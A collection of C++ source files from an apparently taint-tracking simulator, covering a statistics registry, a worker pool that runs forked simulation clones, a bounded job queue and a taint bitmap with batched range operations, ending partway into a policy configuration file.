    /** Read a counter; absent counters read as zero. */
    uint64_t get(const std::string &name) const;

    /** Set a point-in-time gauge. */
    void setGauge(const std::string &name, uint64_t value);

    /** Read a gauge; absent gauges read as zero. */
    uint64_t gauge(const std::string &name) const;

    /** Record a sample into the named histogram. */
    void record(const std::string &name, uint64_t value,
                uint64_t weight = 1);

    /** The named histogram, or nullptr when nothing was recorded. */
    const Histogram *histogram(const std::string &name) const;

    /** Reset every counter, gauge, and histogram. */
    void clear();

    /** Counter names in sorted order, for dumping. */
    std::vector<std::string> names() const;

    /**
     * Visit counters/gauges/histograms in sorted-name order without
     * copying the maps — the accessor exporters render from.
     */
    void forEach(
        const std::function<void(const std::string &, uint64_t)> &fn) const;
    void forEachGauge(
        const std::function<void(const std::string &, uint64_t)> &fn) const;
    void forEachHistogram(
        const std::function<void(const std::string &, const Histogram &)> &fn)
        const;

    /**
     * Render the set as stable plain text, one entry per line:
     *
     *   counter <name> = <value>
     *   gauge <name> = <value>
     *   hist <name> count=<n> sum=<s> min=<lo> max=<hi> p50=<a> p99=<b>
     *
     * Entries are grouped by shape and sorted by name within each
     * group; the format is part of the documented schema
     * (docs/OBSERVABILITY.md).
     */
    std::string dump() const;

    /**
     * Merge another set into this one: counters sum, gauges keep the
     * max, histograms merge bucket-wise.
     */
    void merge(const StatSet &other);

    /**
     * Merge an externally-maintained histogram into the named one —
     * for subsystems that keep a local Histogram on their hot path
     * (no name lookup per sample) and fold it in at end of run.
     */
    void mergeHistogram(const std::string &name, const Histogram &hist);

  private:
    std::map<std::string, uint64_t> counters_;
    std::map<std::string, uint64_t> gauges_;
    std::map<std::string, Histogram> histograms_;
};

/**
 * A mutex-guarded StatSet for aggregation across fleet workers: each
 * clone accumulates into its own (single-threaded) StatSet while
 * running, then folds it in here with one merge() per job. A live
 * metrics exporter snapshots it mid-run from its own thread.
 */
class ConcurrentStatSet
{
  public:
    /** Counter-wise sum `other` into the aggregate. */
    void
    merge(const StatSet &other)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.merge(other);
    }

    void
    add(const std::string &name, uint64_t delta = 1)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.add(name, delta);
    }

    void
    setGauge(const std::string &name, uint64_t value)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.setGauge(name, value);
    }

    void
    record(const std::string &name, uint64_t value, uint64_t weight = 1)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.record(name, value, weight);
    }

    /** Copy out the aggregate (a consistent point-in-time view). */
    StatSet
    snapshot() const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return stats_;
    }

  private:
    mutable std::mutex mutex_;
    StatSet stats_;
};

} // namespace shift

#endif // SHIFT_SUPPORT_STATS_HH
