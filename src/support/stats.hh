/**
 * @file
 * A tiny named-counter statistics registry.
 *
 * Simulator components register scalar counters here; benchmark
 * harnesses read them back by name to compute slowdowns and overhead
 * breakdowns (paper figures 7-9).
 */

#ifndef SHIFT_SUPPORT_STATS_HH
#define SHIFT_SUPPORT_STATS_HH

#include <cstdint>
#include <map>
#include <mutex>
#include <string>
#include <vector>

namespace shift
{

/** A bag of named 64-bit counters. */
class StatSet
{
  public:
    /** Add delta to the named counter (created at zero on first use). */
    void add(const std::string &name, uint64_t delta = 1);

    /** Read a counter; absent counters read as zero. */
    uint64_t get(const std::string &name) const;

    /** Reset every counter to zero. */
    void clear();

    /** Names in sorted order, for dumping. */
    std::vector<std::string> names() const;

    /** Render "name = value" lines. */
    std::string dump() const;

    /** Merge another set into this one (counter-wise sum). */
    void merge(const StatSet &other);

  private:
    std::map<std::string, uint64_t> counters_;
};

/**
 * A mutex-guarded StatSet for aggregation across fleet workers: each
 * clone accumulates into its own (single-threaded) StatSet while
 * running, then folds it in here with one merge() per job.
 */
class ConcurrentStatSet
{
  public:
    /** Counter-wise sum `other` into the aggregate. */
    void
    merge(const StatSet &other)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.merge(other);
    }

    void
    add(const std::string &name, uint64_t delta = 1)
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stats_.add(name, delta);
    }

    /** Copy out the aggregate (a consistent point-in-time view). */
    StatSet
    snapshot() const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return stats_;
    }

  private:
    mutable std::mutex mutex_;
    StatSet stats_;
};

} // namespace shift

#endif // SHIFT_SUPPORT_STATS_HH
