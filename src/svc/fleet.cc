#include "fleet.hh"

#include <algorithm>
#include <chrono>
#include <mutex>
#include <thread>

#include "svc/mpmc_queue.hh"

namespace shift::svc
{

namespace
{

double
secondsSince(std::chrono::steady_clock::time_point start)
{
    return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                         start)
        .count();
}

} // namespace

Fleet::Fleet(SessionTemplate &tmpl, FleetOptions options)
    : tmpl_(&tmpl), options_(options)
{
    if (options_.workers == 0)
        options_.workers = 1;
    if (options_.queueCapacity == 0)
        options_.queueCapacity = 2 * options_.workers;
}

FleetReport
Fleet::serve(const std::vector<FleetJob> &jobs)
{
    tmpl_->freeze();

    MpmcQueue<FleetJob> queue(options_.queueCapacity);
    ConcurrentStatSet aggregate;
    std::mutex resultsMutex;
    std::vector<FleetJobResult> results;
    results.reserve(jobs.size());

    auto worker = [&] {
        while (std::optional<FleetJob> job = queue.pop()) {
            FleetJobResult jr;
            jr.id = job->id;

            auto forkStart = std::chrono::steady_clock::now();
            std::unique_ptr<SessionClone> clone = tmpl_->instantiate();
            jr.forkSeconds = secondsSince(forkStart);

            for (const std::string &request : job->requests)
                clone->os().queueConnection(request);

            auto runStart = std::chrono::steady_clock::now();
            jr.result = clone->run();
            jr.runSeconds = secondsSince(runStart);

            jr.responses = clone->os().responses();
            jr.cowPages = clone->machine().memory().cowCopies();

            if (options_.reference) {
                std::unique_ptr<SessionClone> ref =
                    options_.reference->instantiate();
                for (const std::string &request : job->requests)
                    ref->os().queueConnection(request);
                RunResult refResult = ref->run();
                jr.savedSimCycles =
                    static_cast<int64_t>(refResult.cycles) -
                    static_cast<int64_t>(jr.result.cycles);
            }

            aggregate.merge(jr.result.stats);
            std::lock_guard<std::mutex> lock(resultsMutex);
            results.push_back(std::move(jr));
        }
    };

    auto serveStart = std::chrono::steady_clock::now();
    std::vector<std::thread> threads;
    threads.reserve(options_.workers);
    for (unsigned i = 0; i < options_.workers; ++i)
        threads.emplace_back(worker);

    for (const FleetJob &job : jobs)
        queue.push(job);
    queue.close();
    for (std::thread &t : threads)
        t.join();

    FleetReport report;
    report.hostSeconds = secondsSince(serveStart);
    report.stats = aggregate.snapshot();
    report.optStats = tmpl_->optStats();
    report.fastBlocksEntered = report.stats.get("fastpath.entered");
    report.fastDeopts = report.stats.get("fastpath.deopts");

    std::sort(results.begin(), results.end(),
              [](const FleetJobResult &a, const FleetJobResult &b) {
                  return a.id < b.id;
              });

    // Per-request simulated latency: a job's cycle total spread over
    // its requests (requests within one clone run are not separately
    // timestamped by the machine).
    std::vector<uint64_t> latencies;
    for (const FleetJobResult &jr : results) {
        report.requests += jr.responses.size();
        report.detections += jr.result.alerts.size();
        report.allOk = report.allOk && jr.result.ok();
        report.totalSimCycles += jr.result.cycles;
        report.totalSavedSimCycles += jr.savedSimCycles;
        size_t n = std::max<size_t>(jr.responses.size(), 1);
        for (size_t i = 0; i < n; ++i)
            latencies.push_back(jr.result.cycles / n);
    }
    report.jobs = results.size();
    if (!latencies.empty()) {
        std::sort(latencies.begin(), latencies.end());
        report.p50LatencyCycles = latencies[latencies.size() / 2];
        report.p99LatencyCycles =
            latencies[std::min(latencies.size() - 1,
                               latencies.size() * 99 / 100)];
    }
    if (report.hostSeconds > 0) {
        report.requestsPerHostSecond =
            static_cast<double>(report.requests) / report.hostSeconds;
    }
    report.jobResults = std::move(results);
    return report;
}

} // namespace shift::svc
