#include "fleet.hh"

#include <algorithm>
#include <chrono>
#include <mutex>
#include <thread>

#include "obs/trace.hh"
#include "svc/mpmc_queue.hh"

namespace shift::svc
{

namespace
{

double
secondsSince(std::chrono::steady_clock::time_point start)
{
    return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                         start)
        .count();
}

} // namespace

Fleet::Fleet(SessionTemplate &tmpl, FleetOptions options)
    : tmpl_(&tmpl), options_(options)
{
    if (options_.workers == 0)
        options_.workers = 1;
    if (options_.queueCapacity == 0)
        options_.queueCapacity = 2 * options_.workers;
}

FleetReport
Fleet::serve(const std::vector<FleetJob> &jobs)
{
    tmpl_->freeze();

    MpmcQueue<FleetJob> queue(options_.queueCapacity);
    ConcurrentStatSet aggregate;
    std::mutex resultsMutex;
    std::vector<FleetJobResult> results;
    results.reserve(jobs.size());

    auto worker = [&] {
        while (std::optional<FleetJob> job = queue.pop()) {
            FleetJobResult jr;
            jr.id = job->id;
            uint64_t jobId = static_cast<uint64_t>(job->id);

            auto forkStart = std::chrono::steady_clock::now();
            std::unique_ptr<SessionClone> clone = tmpl_->instantiate();
            jr.forkSeconds = secondsSince(forkStart);
            obs::note(obs::Ev::JobFork, 0, -1, 0, jobId);

            for (const std::string &request : job->requests)
                clone->os().queueConnection(request);

            obs::note(obs::Ev::JobRunBegin, 0, -1, 0, jobId);
            auto runStart = std::chrono::steady_clock::now();
            jr.result = clone->run();
            jr.runSeconds = secondsSince(runStart);
            obs::note(obs::Ev::JobRunEnd, 0, -1, 0, jobId,
                      jr.result.cycles);

            jr.responses = clone->os().responses();
            jr.cowPages = clone->machine().memory().cowCopies();

            if (options_.reference) {
                std::unique_ptr<SessionClone> ref =
                    options_.reference->instantiate();
                for (const std::string &request : job->requests)
                    ref->os().queueConnection(request);
                RunResult refResult = ref->run();
                jr.savedSimCycles =
                    static_cast<int64_t>(refResult.cycles) -
                    static_cast<int64_t>(jr.result.cycles);
            }

            // Fleet-plane distributions ride in the job's own StatSet
            // so one merge carries them into the aggregate (and any
            // live exporter target) together with the engine counters.
            size_t nReq = std::max<size_t>(jr.responses.size(), 1);
            jr.result.stats.record("fleet.latency.cycles",
                                   jr.result.cycles / nReq, nReq);
            jr.result.stats.record(
                "fleet.fork.micros",
                static_cast<uint64_t>(jr.forkSeconds * 1e6));
            jr.result.stats.record("fleet.cow.pages", jr.cowPages);
            jr.result.stats.add("fleet.jobs");
            jr.result.stats.add("fleet.requests", jr.responses.size());
            jr.result.stats.add("fleet.detections",
                                jr.result.alerts.size());

            aggregate.merge(jr.result.stats);
            if (options_.live)
                options_.live->merge(jr.result.stats);
            obs::note(obs::Ev::JobMerge, 0, -1, 0, jobId);
            std::lock_guard<std::mutex> lock(resultsMutex);
            results.push_back(std::move(jr));
        }
    };

    aggregate.setGauge("fleet.workers", options_.workers);
    if (options_.live)
        options_.live->setGauge("fleet.workers", options_.workers);

    auto serveStart = std::chrono::steady_clock::now();
    std::vector<std::thread> threads;
    threads.reserve(options_.workers);
    for (unsigned i = 0; i < options_.workers; ++i)
        threads.emplace_back(worker);

    for (const FleetJob &job : jobs)
        queue.push(job);
    queue.close();
    for (std::thread &t : threads)
        t.join();

    FleetReport report;
    report.hostSeconds = secondsSince(serveStart);
    report.stats = aggregate.snapshot();
    report.optStats = tmpl_->optStats();
    report.fastBlocksEntered = report.stats.get("fastpath.entered");
    report.fastDeopts = report.stats.get("fastpath.deopts");
    report.jitBlocksEntered = report.stats.get("jit.entered");
    report.jitDeopts = report.stats.get("jit.deopts");

    std::sort(results.begin(), results.end(),
              [](const FleetJobResult &a, const FleetJobResult &b) {
                  return a.id < b.id;
              });

    for (const FleetJobResult &jr : results) {
        report.requests += jr.responses.size();
        report.detections += jr.result.alerts.size();
        report.allOk = report.allOk && jr.result.ok();
        report.totalSimCycles += jr.result.cycles;
        report.totalSavedSimCycles += jr.savedSimCycles;
    }
    report.jobs = results.size();
    // Per-request simulated latency: a job's cycle total spread over
    // its requests (requests within one clone run are not separately
    // timestamped by the machine). Workers recorded these into the
    // merged fleet.latency.cycles histogram — constant memory per
    // worker instead of the O(requests) sorted vector this replaces.
    if (const Histogram *lat =
            report.stats.histogram("fleet.latency.cycles")) {
        report.p50LatencyCycles = lat->quantile(0.50);
        report.p99LatencyCycles = lat->quantile(0.99);
    }
    if (report.hostSeconds > 0) {
        report.requestsPerHostSecond =
            static_cast<double>(report.requests) / report.hostSeconds;
    }
    report.jobResults = std::move(results);
    return report;
}

} // namespace shift::svc
