/**
 * @file
 * svc::Fleet: a fixed-size worker pool serving simulation jobs from a
 * frozen SessionTemplate.
 *
 * Each job is one forked clone's workload (for httpd: a batch of HTTP
 * requests queued as inbound connections). Workers pull jobs from a
 * bounded MPMC queue, fork a clone (O(dirtied pages) thanks to the
 * COW snapshot), run it to completion on the predecoded engine, and
 * fold the per-clone statistics and policy verdicts into an aggregate
 * FleetReport. Because clones share pages read-only and dirty private
 * copies, N workers need no synchronization while simulating — only
 * the queue and the report aggregation take locks.
 *
 * Determinism contract (tested, see tests/test_fleet_httpd.cc): for
 * every job, the fleet's RunResult, responses and verdicts are
 * bit-identical to running the same job in a fresh single-use
 * Session, regardless of worker count or scheduling order.
 */

#ifndef SHIFT_SVC_FLEET_HH
#define SHIFT_SVC_FLEET_HH

#include <cstdint>
#include <string>
#include <vector>

#include "runtime/session_template.hh"
#include "support/stats.hh"

namespace shift::svc
{

/** One unit of work: a clone's inbound connections. */
struct FleetJob
{
    int id = 0;
    std::vector<std::string> requests;
};

/** What one clone produced, tagged with its job id. */
struct FleetJobResult
{
    int id = 0;
    RunResult result;
    std::vector<std::string> responses;
    uint64_t cowPages = 0;  ///< pages this clone dirtied (COW copies)
    double forkSeconds = 0; ///< host time to instantiate the clone
    double runSeconds = 0;  ///< host time to simulate the job
    /**
     * Simulated cycles the instrumentation optimizer saved on this
     * job: reference-template cycles minus this clone's cycles.
     * Zero unless FleetOptions::reference is set.
     */
    int64_t savedSimCycles = 0;
};

struct FleetOptions
{
    unsigned workers = 4;
    /** Queue bound; 0 picks 2x workers. */
    size_t queueCapacity = 0;
    /**
     * Optional measurement twin: a template built from the same
     * sources and options but with the optimizer off. When set, every
     * job is replayed on a reference clone and the cycle delta lands
     * in FleetJobResult::savedSimCycles (host cost doubles; leave
     * null for production serving). Provision both templates
     * identically or the deltas are meaningless.
     */
    SessionTemplate *reference = nullptr;

    /**
     * Optional live aggregation target: every job's stats (counters,
     * gauges, and the fleet.* histograms) are merged here as the job
     * completes, so a metrics exporter on another thread can snapshot
     * a consistent mid-run view. Leave null to skip the extra merge.
     */
    ConcurrentStatSet *live = nullptr;
};

/** Aggregate over every job the fleet served. */
struct FleetReport
{
    size_t jobs = 0;
    size_t requests = 0;
    /** Security alerts raised across all clones (policy detections). */
    size_t detections = 0;
    /** True when every job exited cleanly (no fault, no policy kill). */
    bool allOk = true;

    uint64_t totalSimCycles = 0;
    /** Per-request simulated latency percentiles (cycles). */
    uint64_t p50LatencyCycles = 0;
    uint64_t p99LatencyCycles = 0;

    double hostSeconds = 0;
    double requestsPerHostSecond = 0;

    /**
     * Static optimizer counters from the template build (all zero
     * when the optimizer was off).
     */
    OptStats optStats;
    /** Sum of per-job savedSimCycles (0 without a reference twin). */
    int64_t totalSavedSimCycles = 0;

    /**
     * Fast-tier aggregates across all clones (see docs/FAST-PATH.md):
     * superblock entries that ran on the taint-clean stream, and
     * guard failures that deopted to the instrumented twin. Both zero
     * when the fleet ran with fastPath off. Per-block attribution
     * lives in `stats` under "fastpath.deopts.<function>@<pc>".
     */
    uint64_t fastBlocksEntered = 0;
    uint64_t fastDeopts = 0;

    /**
     * JIT-tier aggregates across all clones (see docs/JIT.md):
     * entries into template-shared compiled code and fast-tier deopts
     * taken inside it. Both zero when the fleet ran with jit off (or
     * on hosts where the backend is unavailable). Compile counts and
     * bailouts live in `stats` under "jit.compiled"/"jit.bailouts".
     */
    uint64_t jitBlocksEntered = 0;
    uint64_t jitDeopts = 0;

    /** Counter-wise sum of every clone's detailed stats. */
    StatSet stats;

    /** Per-job results, sorted by job id. */
    std::vector<FleetJobResult> jobResults;
};

/** The worker pool. The template must outlive the fleet. */
class Fleet
{
  public:
    explicit Fleet(SessionTemplate &tmpl, FleetOptions options = {});

    /**
     * Serve every job to completion and aggregate. Freezes the
     * template on first use. Blocking; call from one thread.
     */
    FleetReport serve(const std::vector<FleetJob> &jobs);

  private:
    SessionTemplate *tmpl_;
    FleetOptions options_;
};

} // namespace shift::svc

#endif // SHIFT_SVC_FLEET_HH
