/**
 * @file
 * A bounded multi-producer / multi-consumer job queue.
 *
 * Deliberately boring: one mutex, two condition variables, a deque,
 * and a capacity bound so a fast producer cannot buffer an unbounded
 * backlog ahead of slow workers. close() wakes everyone; producers
 * then fail fast and consumers drain what remains before seeing
 * end-of-stream. Throughput is not a concern — a fleet worker holds
 * the lock for nanoseconds between simulated runs that take
 * milliseconds.
 */

#ifndef SHIFT_SVC_MPMC_QUEUE_HH
#define SHIFT_SVC_MPMC_QUEUE_HH

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <mutex>
#include <optional>
#include <utility>

namespace shift::svc
{

template <typename T>
class MpmcQueue
{
  public:
    explicit MpmcQueue(size_t capacity) : capacity_(capacity ? capacity : 1)
    {
    }

    /**
     * Block until there is room, then enqueue. Returns false (item
     * not enqueued) when the queue was closed.
     */
    bool
    push(T item)
    {
        std::unique_lock<std::mutex> lock(mutex_);
        notFull_.wait(lock, [this] {
            return closed_ || items_.size() < capacity_;
        });
        if (closed_)
            return false;
        items_.push_back(std::move(item));
        lock.unlock();
        notEmpty_.notify_one();
        return true;
    }

    /**
     * Block until an item is available or the queue is closed AND
     * drained; nullopt means end-of-stream.
     */
    std::optional<T>
    pop()
    {
        std::unique_lock<std::mutex> lock(mutex_);
        notEmpty_.wait(lock, [this] { return closed_ || !items_.empty(); });
        if (items_.empty())
            return std::nullopt;
        T item = std::move(items_.front());
        items_.pop_front();
        lock.unlock();
        notFull_.notify_one();
        return item;
    }

    /** End-of-stream: unblocks every waiter. Already-queued items
        remain poppable. */
    void
    close()
    {
        {
            std::lock_guard<std::mutex> lock(mutex_);
            closed_ = true;
        }
        notEmpty_.notify_all();
        notFull_.notify_all();
    }

    size_t
    size() const
    {
        std::lock_guard<std::mutex> lock(mutex_);
        return items_.size();
    }

  private:
    const size_t capacity_;
    mutable std::mutex mutex_;
    std::condition_variable notEmpty_;
    std::condition_variable notFull_;
    std::deque<T> items_;
    bool closed_ = false;
};

} // namespace shift::svc

#endif // SHIFT_SVC_MPMC_QUEUE_HH
