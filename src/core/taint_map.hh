/**
 * @file
 * Host-side view of the in-memory taint bitmap.
 *
 * Instrumented code maintains taint tags for memory in a bitmap living
 * in region 0 (the tag space), at addresses computed by tagByteAddr()
 * — the same translation the emitted instrumentation performs with
 * extr/shl/or sequences. This class gives native code (taint sources,
 * wrap functions, policy checks, tests) access to that same bitmap, so
 * software and instrumented code always agree.
 */

#ifndef SHIFT_CORE_TAINT_MAP_HH
#define SHIFT_CORE_TAINT_MAP_HH

#include <cstdint>
#include <functional>
#include <vector>

#include "mem/address_space.hh"
#include "mem/memory.hh"

namespace shift
{

/** Read/write the tag bitmap of a Machine's memory. */
class TaintMap
{
  public:
    TaintMap(Memory &mem, Granularity granularity)
        : mem_(&mem), granularity_(granularity)
    {}

    Granularity granularity() const { return granularity_; }

    /** Mark [addr, addr+len) tainted. */
    void taint(uint64_t addr, uint64_t len);

    /** Clear taint on [addr, addr+len). */
    void clear(uint64_t addr, uint64_t len);

    /** True when the single tracking unit containing addr is tainted. */
    bool isTainted(uint64_t addr) const;

    /** True when any byte of [addr, addr+len) is tainted. */
    bool anyTainted(uint64_t addr, uint64_t len) const;

    /** Per-byte taint of a range (index i => addr + i). */
    std::vector<bool> taintOf(uint64_t addr, uint64_t len) const;

    /** Number of tainted tracking units in [addr, addr+len). */
    uint64_t countTainted(uint64_t addr, uint64_t len) const;

    /**
     * Mirror hook: fires after every bitmap bit this map writes, with
     * the tag byte address, the bit index within that byte, and the
     * value written. The async taint tier installs one so host-side
     * taint sources (input hooks, wrap functions) reach its shadow as
     * well as simulated memory. Callers must only write through the
     * map while the consumer is quiesced (machine construction or a
     * fence).
     */
    void
    setMirror(std::function<void(uint64_t, unsigned, bool)> mirror)
    {
        mirror_ = std::move(mirror);
    }

  private:
    void setBit(uint64_t addr, bool value);
    void setRange(uint64_t addr, uint64_t len, bool value);

    Memory *mem_;
    Granularity granularity_;
    std::function<void(uint64_t, unsigned, bool)> mirror_;
};

} // namespace shift

#endif // SHIFT_CORE_TAINT_MAP_HH
