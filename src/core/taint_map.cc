#include "taint_map.hh"

#include "support/bitops.hh"
#include "support/logging.hh"

namespace shift
{

void
TaintMap::setBit(uint64_t addr, bool value)
{
    uint64_t tagAddr = tagByteAddr(addr, granularity_);
    unsigned bitIdx = tagBitIndex(addr, granularity_);
    uint64_t byte = 0;
    MemFault fault = mem_->read(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    byte = insertBit(byte, bitIdx, value);
    fault = mem_->write(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    if (mirror_)
        mirror_(tagAddr, bitIdx, value);
}

void
TaintMap::taint(uint64_t addr, uint64_t len)
{
    unsigned unit = 1U << granularityShift(granularity_);
    // Walk aligned units so an unaligned range still covers the unit
    // holding its last byte.
    uint64_t first = addr & ~static_cast<uint64_t>(unit - 1);
    for (uint64_t a = first; a < addr + len; a += unit)
        setBit(a, true);
}

void
TaintMap::clear(uint64_t addr, uint64_t len)
{
    unsigned unit = 1U << granularityShift(granularity_);
    // Clear every unit any byte of the range touches.
    uint64_t first = addr & ~static_cast<uint64_t>(unit - 1);
    for (uint64_t a = first; a < addr + len; a += unit)
        setBit(a, false);
}

bool
TaintMap::isTainted(uint64_t addr) const
{
    uint64_t tagAddr = tagByteAddr(addr, granularity_);
    unsigned bitIdx = tagBitIndex(addr, granularity_);
    uint64_t byte = 0;
    MemFault fault = mem_->read(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    return bit(byte, bitIdx);
}

bool
TaintMap::anyTainted(uint64_t addr, uint64_t len) const
{
    unsigned unit = 1U << granularityShift(granularity_);
    uint64_t first = addr & ~static_cast<uint64_t>(unit - 1);
    for (uint64_t a = first; a < addr + len; a += unit) {
        if (isTainted(a))
            return true;
    }
    return false;
}

std::vector<bool>
TaintMap::taintOf(uint64_t addr, uint64_t len) const
{
    std::vector<bool> out(len);
    for (uint64_t i = 0; i < len; ++i)
        out[i] = isTainted(addr + i);
    return out;
}

uint64_t
TaintMap::countTainted(uint64_t addr, uint64_t len) const
{
    unsigned unit = 1U << granularityShift(granularity_);
    uint64_t count = 0;
    uint64_t first = addr & ~static_cast<uint64_t>(unit - 1);
    for (uint64_t a = first; a < addr + len; a += unit)
        count += isTainted(a);
    return count;
}

} // namespace shift
