#include "taint_map.hh"

#include <algorithm>

#include "support/bitops.hh"
#include "support/logging.hh"

namespace shift
{

void
TaintMap::setBit(uint64_t addr, bool value)
{
    uint64_t tagAddr = tagByteAddr(addr, granularity_);
    unsigned bitIdx = tagBitIndex(addr, granularity_);
    uint64_t byte = 0;
    MemFault fault = mem_->read(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    byte = insertBit(byte, bitIdx, value);
    fault = mem_->write(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    if (mirror_)
        mirror_(tagAddr, bitIdx, value);
}

void
TaintMap::setRange(uint64_t addr, uint64_t len, bool value)
{
    // Eight tracking units share a tag byte, so a range write touches
    // each tag byte once (and skips the read-modify-write entirely when
    // the range covers all eight bits) instead of doing a full memory
    // round-trip per unit. Server workloads clear taint on every I/O
    // buffer, which made the per-unit loop the hottest host function.
    unsigned shift = granularityShift(granularity_);
    uint64_t unit = 1ULL << shift;
    // Walk aligned units so an unaligned range still covers the unit
    // holding its last byte.
    uint64_t a = addr & ~(unit - 1);
    uint64_t end = addr + len;
    if (a >= end)
        return;
    uint64_t lastGranule = (end - 1) >> shift;
    for (uint64_t g = a >> shift; g <= lastGranule;) {
        uint64_t tagAddr = tagByteAddr(g << shift, granularity_);
        unsigned lo = static_cast<unsigned>(g & 7);
        unsigned count = static_cast<unsigned>(
            std::min<uint64_t>(8 - lo, lastGranule - g + 1));
        uint8_t mask = static_cast<uint8_t>(lowMask(count) << lo);
        if (!value && !mirror_ &&
            !mem_->taintSummary().lineDirty(tagAddr)) {
            // A clean summary line proves the tag byte is zero, so
            // this clear would write back the zero it read: skip the
            // round-trip. Only without a mirror — the mirror contract
            // is "fires for every bit written", and the async tier's
            // shadow maintenance relies on it.
            g += count;
            continue;
        }
        uint64_t byte = 0;
        if (mask != 0xFF) {
            MemFault fault = mem_->read(tagAddr, 1, byte);
            SHIFT_ASSERT(fault == MemFault::None);
        }
        byte = value ? (byte | mask) : (byte & ~mask);
        MemFault fault = mem_->write(tagAddr, 1, byte);
        SHIFT_ASSERT(fault == MemFault::None);
        if (mirror_) {
            for (unsigned b = 0; b < count; ++b)
                mirror_(tagAddr, lo + b, value);
        }
        g += count;
    }
}

void
TaintMap::taint(uint64_t addr, uint64_t len)
{
    setRange(addr, len, true);
}

void
TaintMap::clear(uint64_t addr, uint64_t len)
{
    setRange(addr, len, false);
}

bool
TaintMap::isTainted(uint64_t addr) const
{
    uint64_t tagAddr = tagByteAddr(addr, granularity_);
    unsigned bitIdx = tagBitIndex(addr, granularity_);
    uint64_t byte = 0;
    MemFault fault = mem_->read(tagAddr, 1, byte);
    SHIFT_ASSERT(fault == MemFault::None);
    return bit(byte, bitIdx);
}

bool
TaintMap::anyTainted(uint64_t addr, uint64_t len) const
{
    // Same tag-byte batching as setRange: one read covers eight units.
    // The taint summary's contract (a clean line proves the bitmap
    // bytes under it are zero) additionally lets whole tag bytes be
    // skipped without touching memory — the common case for server
    // buffers that never held tainted data.
    const TaintSummary &summary = mem_->taintSummary();
    unsigned shift = granularityShift(granularity_);
    uint64_t unit = 1ULL << shift;
    uint64_t a = addr & ~(unit - 1);
    uint64_t end = addr + len;
    if (a >= end)
        return false;
    uint64_t lastGranule = (end - 1) >> shift;
    for (uint64_t g = a >> shift; g <= lastGranule;) {
        uint64_t tagAddr = tagByteAddr(g << shift, granularity_);
        unsigned lo = static_cast<unsigned>(g & 7);
        unsigned count = static_cast<unsigned>(
            std::min<uint64_t>(8 - lo, lastGranule - g + 1));
        if (summary.lineDirty(tagAddr)) {
            uint64_t byte = 0;
            MemFault fault = mem_->read(tagAddr, 1, byte);
            SHIFT_ASSERT(fault == MemFault::None);
            if (byte & (lowMask(count) << lo))
                return true;
        }
        g += count;
    }
    return false;
}

std::vector<bool>
TaintMap::taintOf(uint64_t addr, uint64_t len) const
{
    // Policy checks read whole strings through this. Walk tag bytes
    // (eight units each) rather than data bytes, skip tag bytes whose
    // summary line is clean (the vector is zero-initialized), and only
    // expand a tag byte into per-unit bits when it is nonzero.
    std::vector<bool> out(len);
    if (len == 0)
        return out;
    const TaintSummary &summary = mem_->taintSummary();
    unsigned shift = granularityShift(granularity_);
    uint64_t lastGranule = (addr + len - 1) >> shift;
    for (uint64_t g = addr >> shift; g <= lastGranule;) {
        uint64_t tagAddr = tagByteAddr(g << shift, granularity_);
        unsigned lo = static_cast<unsigned>(g & 7);
        unsigned count = static_cast<unsigned>(
            std::min<uint64_t>(8 - lo, lastGranule - g + 1));
        if (summary.lineDirty(tagAddr)) {
            uint64_t byte = 0;
            MemFault fault = mem_->read(tagAddr, 1, byte);
            SHIFT_ASSERT(fault == MemFault::None);
            if (byte & (lowMask(count) << lo)) {
                // Unit g covers data bytes [g<<shift, (g+1)<<shift);
                // mark the slice of them inside [addr, addr+len).
                for (unsigned b = 0; b < count; ++b) {
                    if (!bit(byte, lo + b))
                        continue;
                    uint64_t unitBase = (g + b) << shift;
                    uint64_t from = std::max(unitBase, addr);
                    uint64_t to = std::min<uint64_t>(
                        unitBase + (uint64_t(1) << shift), addr + len);
                    for (uint64_t v = from; v < to; ++v)
                        out[v - addr] = true;
                }
            }
        }
        g += count;
    }
    return out;
}

uint64_t
TaintMap::countTainted(uint64_t addr, uint64_t len) const
{
    unsigned shift = granularityShift(granularity_);
    uint64_t unit = 1ULL << shift;
    uint64_t count = 0;
    uint64_t a = addr & ~(unit - 1);
    uint64_t end = addr + len;
    if (a >= end)
        return 0;
    uint64_t lastGranule = (end - 1) >> shift;
    for (uint64_t g = a >> shift; g <= lastGranule;) {
        uint64_t tagAddr = tagByteAddr(g << shift, granularity_);
        unsigned lo = static_cast<unsigned>(g & 7);
        unsigned n = static_cast<unsigned>(
            std::min<uint64_t>(8 - lo, lastGranule - g + 1));
        uint64_t byte = 0;
        MemFault fault = mem_->read(tagAddr, 1, byte);
        SHIFT_ASSERT(fault == MemFault::None);
        count += static_cast<uint64_t>(
            __builtin_popcountll(byte & (lowMask(n) << lo)));
        g += n;
    }
    return count;
}

} // namespace shift
