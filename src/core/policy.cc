#include "policy.hh"

#include <cctype>
#include <cstring>

#include "core/taint_map.hh"
#include "support/logging.hh"

namespace shift
{

PolicyConfig
PolicyConfig::fromConfig(const Config &cfg)
{
    PolicyConfig pc;

    auto sourceTaints = [&](const char *key, bool dflt) {
        if (!cfg.has("sources", key))
            return dflt;
        std::string v = cfg.get("sources", key);
        if (iequals(v, "taint"))
            return true;
        if (iequals(v, "clean"))
            return false;
        SHIFT_FATAL("sources.%s must be 'taint' or 'clean', got '%s'",
                    key, v.c_str());
    };
    pc.taintNetwork = sourceTaints("network", pc.taintNetwork);
    pc.taintFile = sourceTaints("file", pc.taintFile);
    pc.taintStdin = sourceTaints("stdin", pc.taintStdin);

    pc.h1 = cfg.getBool("policies", "H1", pc.h1);
    pc.h2 = cfg.getBool("policies", "H2", pc.h2);
